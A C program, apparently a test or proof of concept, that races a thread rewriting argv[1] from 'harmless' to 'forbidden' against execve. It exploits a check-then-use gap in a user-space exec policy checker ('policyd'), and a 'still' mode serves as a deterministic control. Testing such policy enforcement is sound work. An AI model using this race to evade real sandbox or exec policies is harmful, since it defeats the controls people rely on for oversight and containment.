/* Attack: a second thread rewrites argv[1] while the main thread execs, so
 * the argv policyd reads ("harmless") may not be the argv the kernel runs
 * ("forbidden"). Usage: argv_race PROGRAM [still]; with "still" the
 * second thread exists but never writes (the read is then deterministic). */
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char arg[32] = "harmless";
static volatile int go = 1;
static volatile unsigned long flips;
static int still;

static void *flip(void *p)
{
	(void)p;
	if (still) {
		pause();
		return NULL;
	}
	for (unsigned long i = 0; go; i++) {
		memcpy(arg, i & 1 ? "forbidden" : "harmless\0", 10);
		flips = i;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	still = argc > 2 && !strcmp(argv[2], "still");
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	char *args[] = {argv[1], arg, NULL};
	char *env[] = {NULL};
	usleep(1000);
	/* on a loaded machine the new thread may not have run yet: exec only
	 * once it is flipping (natively, the kernel then copies either) */
	while (!still && flips < 10000)
		sched_yield();
	syscall(SYS_execve, argv[1], args, env);
	printf("exec: refused errno=%d\n", errno);
	return 1;
}
